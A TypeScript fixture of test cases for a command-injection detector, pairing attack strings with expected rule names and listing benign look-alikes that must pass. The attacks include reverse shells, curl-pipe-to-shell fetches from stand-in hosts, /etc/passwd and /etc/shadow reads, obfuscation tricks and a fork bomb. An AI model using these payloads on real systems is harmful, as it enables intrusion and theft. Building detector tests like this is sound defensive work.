import type { ValueKind } from '../../inspectable.js';

/** One detection case: a value, where it came from, and the rule expected (null: must not be flagged). */
export interface CmdiCase {
  readonly input: string;
  readonly kind?: ValueKind;
  readonly expect: string | null;
}

/**
 * Command-injection cases shared by the unit test, the benchmark and the fuzz target. Attacks name the rule
 * that must fire (at paranoid strength or more); benign look-alikes must stay below the paranoid threshold.
 */
export const CMDI_CASES: readonly CmdiCase[] = [
  // Separators and pipes in front of a command.
  { input: ';id', expect: 'cmdi/chained-command' },
  { input: ';cat /etc/passwd', expect: 'cmdi/chained-command' },
  { input: '127.0.0.1; ls -la /var/www', expect: 'cmdi/chained-command' },
  { input: '127.0.0.1 && curl http://evil.example/x.sh | sh', expect: 'cmdi/chained-command' },
  { input: 'foo.txt | whoami', expect: 'cmdi/chained-command' },
  { input: 'x || ping -c 10 127.0.0.1', expect: 'cmdi/chained-command' },
  { input: '%0Aid', kind: 'query-value', expect: 'cmdi/chained-command' },
  { input: 'a\nuname -a', expect: 'cmdi/chained-command' },
  { input: "x'; wget http://203.0.113.9/a -O /tmp/a; '", expect: 'cmdi/chained-command' },
  { input: '"; nc -e /bin/sh 10.0.0.1 4444 #', expect: 'cmdi/chained-command' },
  { input: 'ifconfig;uname -a', expect: 'cmdi/chained-command' },
  { input: 'time; sleep 10', expect: 'cmdi/chained-command' },
  // Substitutions.
  { input: '$(whoami)', expect: 'cmdi/command-substitution' },
  { input: '`id`', expect: 'cmdi/command-substitution' },
  { input: 'echo $(cat /etc/passwd)', expect: 'cmdi/command-substitution' },
  { input: 'name=`uname -a`', expect: 'cmdi/command-substitution' },
  { input: '<(curl http://evil.example)', expect: 'cmdi/command-substitution' },
  { input: 'pi$()ng -c 1 127.0.0.1', expect: 'cmdi/obfuscated-command' },
  // Evasions: quote splitting, escapes, empty variables, $IFS, globs, braces, variables.
  { input: "c'a't /etc/passwd", expect: 'cmdi/obfuscated-command' },
  { input: 'w"h"o"am"i', expect: 'cmdi/obfuscated-command' },
  { input: 'c\\at /etc/hosts', expect: 'cmdi/obfuscated-command' },
  { input: ';c$@at /etc/issue', expect: 'cmdi/obfuscated-command' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
  { input: 'cat${IFS}/etc/passwd', expect: 'cmdi/ifs-evasion' },
  { input: ';cat$IFS$9/etc/passwd', expect: 'cmdi/obfuscated-command' },
  { input: '/???/c?t /???/p??s??', expect: 'cmdi/obfuscated-command' },
  { input: '/bin/ca? /et*/passwd', expect: 'cmdi/glob-path' },
  { input: '{cat,/etc/passwd}', expect: 'cmdi/obfuscated-command' },
  { input: 'a=c;b=at;$a$b /etc/hosts', expect: 'cmdi/obfuscated-command' },
  { input: '$SHELL -c id', expect: 'cmdi/obfuscated-command' },
  { input: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', expect: 'cmdi/reverse-shell' },
  { input: '/bin/sh -c "curl http://evil.example/a | sh"', expect: 'cmdi/shell-command' },
  { input: 'nohup curl http://evil.example/x', expect: 'cmdi/chained-command' },
  { input: 'python3 -c "import os;os.system(\'id\')"', expect: 'cmdi/shell-command' },
  { input: 'cat /etc/shadow', expect: 'cmdi/shell-command' },
  // Windows.
  { input: '& dir C:\\', expect: 'cmdi/chained-command' },
  { input: '| type C:\\Windows\\win.ini', expect: 'cmdi/chained-command' },
  { input: '%COMSPEC% /c whoami', expect: 'cmdi/shell-command' },
  { input: 'x & powershell -enc SQBFAFgAIAAoAGkAdwByACkA', expect: 'cmdi/chained-command' },
  { input: 'FOR /F "tokens=*" %G IN (\'dir /b\') DO echo %G', expect: 'cmdi/windows-batch' },
  { input: 'IF EXIST C:\\boot.ini type C:\\boot.ini', expect: 'cmdi/windows-batch' },
  { input: 'a.jpg&certutil -urlcache -f http://evil.example/p.exe p.exe', expect: 'cmdi/chained-command' },
  // Other shells' and servers' syntax.
  { input: ':(){ :|:& };:', expect: 'cmdi/fork-bomb' },
  { input: '<!--#exec cmd="/bin/cat /etc/passwd"-->', expect: 'cmdi/ssi-directive' },
  { input: '%0D%0ARCPT TO:<victim@example.com>', kind: 'body-value', expect: 'cmdi/mail-command' },
  { input: 'hello%0D%0Aa001 LOGIN admin secret', kind: 'body-value', expect: 'cmdi/mail-command' },

  // Benign look-alikes: words that are commands, punctuation that is an operator, prose, code.
  { input: 'the union of workers', expect: null },
  { input: "O'Brien", expect: null },
  { input: "Don't stop; it's fine", expect: null },
  { input: 'Tom & Jerry', expect: null },
  { input: 'Terms; conditions apply', expect: null },
  { input: 'hello; time he came', expect: null },
  { input: 'a hero; more than', expect: null },
  { input: 'Cut orange quarters into crosswise slices', expect: null },
  { input: 'Cat pictures', expect: null },
  { input: 'cat', expect: null },
  { input: 'ls', expect: null },
  { input: 'wget', expect: null },
  { input: 'curl/7.81.0', kind: 'header-value', expect: null },
  { input: 'base64', expect: null },
  { input: 'ping pong tables', expect: null },
  { input: 'time is of the essence', expect: null },
  { input: 'red;$5 each', expect: null },
  { input: 'Price: $20 (incl. VAT)', expect: null },
  { input: 'I love python; do you?', expect: null },
  { input: 'Rock & Roll; Blues | Jazz', expect: null },
  { input: 'Sale | 50% off | today only', expect: null },
  { input: 'If you need help, call us', expect: null },
  { input: 'For more info see the FAQ', expect: null },
  { input: 'if a == b: return x', expect: null },
  { input: 'Use `git status` to check', expect: null },
  { input: 'Die untere Straße; links Haus Nr. 104', expect: null },
  { input: 'Ihre Schwester ist Esskulturgut; man gönnt sie sich.', expect: null },
  { input: '1-2 years', expect: null },
  { input: '<3', expect: null },
  { input: 'C:\\Users\\me\\Documents\\report.docx', expect: null },
  { input: '{"name":"John Doe","age":"30","email":"johndoe@example.com"}', kind: 'body-text', expect: null },
  { input: '[{"value":true,"key":"enabled"}]', expect: null },
  { input: 'SELECT name FROM users WHERE id = 3', expect: null },
  { input: 'https://example.com/search?q=cat&sort=asc', expect: null },
  { input: 'user@example.com', expect: null },
  { input: '2024-05-06T10:00:00Z', expect: null },
  { input: 'dfc987c2-72e2-4a8e-ad98-e0bf1bc3a01c', expect: null },
  { input: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl', expect: null },
  {
    input: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    kind: 'header-value',
    expect: null,
  },
  {
    input: 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15',
    kind: 'header-value',
    expect: null,
  },
  { input: 'Go to store.\nAt the store, shop.', expect: null },
  { input: 'Hello! World.\ndata not found.', expect: null },
  { input: 'We need the list "ASAP"', expect: null },
  { input: 'x && y || z', expect: null },
  { input: 'myfunction(){ echo hello }', expect: null },
  { input: 'jQuery: $(document).ready(fn)', expect: null },
  { input: '~/notes', expect: null },
  { input: 'Size: 8"x11"', expect: null },
  { input: 'See you at 5; bring snacks', expect: null },
  { input: 'To install, run `npm install` and then `npm start`.', expect: null },
  { input: 'Use this:\n```\nls -la\ncd ..\n```\nthen it works', kind: 'body-value', expect: null },
  { input: 'if (a == b) { return c; } else { x = y | z & w; }', expect: null },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template string in a value, not in this code
  { input: 'Hello ${user.name}, your total is ${total}', expect: null },
  { input: 'kill bill vol 1', expect: null },
  { input: 'Apt 5B; 123 Main St. | Springfield & Co.', expect: null },
];
